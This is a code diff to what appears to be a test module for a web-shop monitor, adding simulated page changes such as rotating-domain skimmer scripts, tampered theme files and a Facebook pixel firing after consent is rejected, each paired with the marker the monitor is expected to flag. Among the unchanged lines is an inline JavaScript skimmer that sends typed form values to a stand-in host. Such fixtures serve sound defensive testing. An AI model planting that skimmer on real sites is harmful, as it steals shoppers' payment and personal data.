@@ -41,6 +41,25 @@ def skimmer_in_half_of_the_loads(shop: Shop) -> tuple[Change, tuple[str, ...]]:
     return change, ("now-and-then.example",)
 
 
+def skimmer_of_many_names(shop: Shop) -> tuple[Change, tuple[str, ...]]:
+    """Another domain and another body in each load."""
+
+    def change(pages: Pages, chance: random.Random) -> None:
+        pages["checkout"].script(f"https://many-names-{chance.randrange(10**9)}.example/q.js", body=str(chance.random()))
+
+    return change, ("many-names-",)
+
+
+def tampered_file_of_many_bodies(shop: Shop) -> tuple[Change, tuple[str, ...]]:
+    """A file whose address names its content, with another body in each load."""
+
+    def change(pages: Pages, chance: random.Random) -> None:
+        for page in pages.values():
+            page.scripts[:] = [replace(one, sha256=digest_of(str(chance.random()))) if "/assets/theme." in one.url else one for one in page.scripts]
+
+    return change, ("exact:https://www.",)
+
+
 def inline_skimmer(shop: Shop) -> tuple[Change, tuple[str, ...]]:
     text = 'document.forms[0].addEventListener("input", e => { new Image().src = "https://img-store.example/i.gif?d=" + btoa(e.target.value); });'
     return lambda pages, chance: pages["checkout"].inline(text), ("img-store.example",)
@@ -132,6 +151,14 @@ def granted(shop: Shop) -> tuple[Change, tuple[str, ...]]:
     return change, ("default:",)
 
 
+def tracks_after_reject(shop: Shop) -> tuple[Change, tuple[str, ...]]:
+    def change(pages: Pages, chance: random.Random) -> None:
+        pages["rejected"].request("https://www.facebook.com/tr?id=1&ev=PageView")
+        pages["rejected"].cookie("_fbp", by="https://connect.facebook.net/en_US/fbevents.js")
+
+    return change, ("state:rejected:",)
+
+
 def policy_edited(shop: Shop) -> tuple[Change, tuple[str, ...]]:
     def change(pages: Pages, chance: random.Random) -> None:
         page = pages["privacy"]
@@ -153,6 +180,8 @@ PLANTS: dict[str, Callable[[Shop], tuple[Change, tuple[str, ...]]]] = {
     for plant in (
         skimmer,
         skimmer_in_half_of_the_loads,
+        skimmer_of_many_names,
+        tampered_file_of_many_bodies,
         inline_skimmer,
         known_party_skimmer,
         swapped_pixel,
@@ -165,6 +194,7 @@ PLANTS: dict[str, Callable[[Shop], tuple[Change, tuple[str, ...]]]] = {
         tracking_cookie,
         banner_gone,
         granted,
+        tracks_after_reject,
         policy_edited,
         malicious_host,
         cookie_moved,
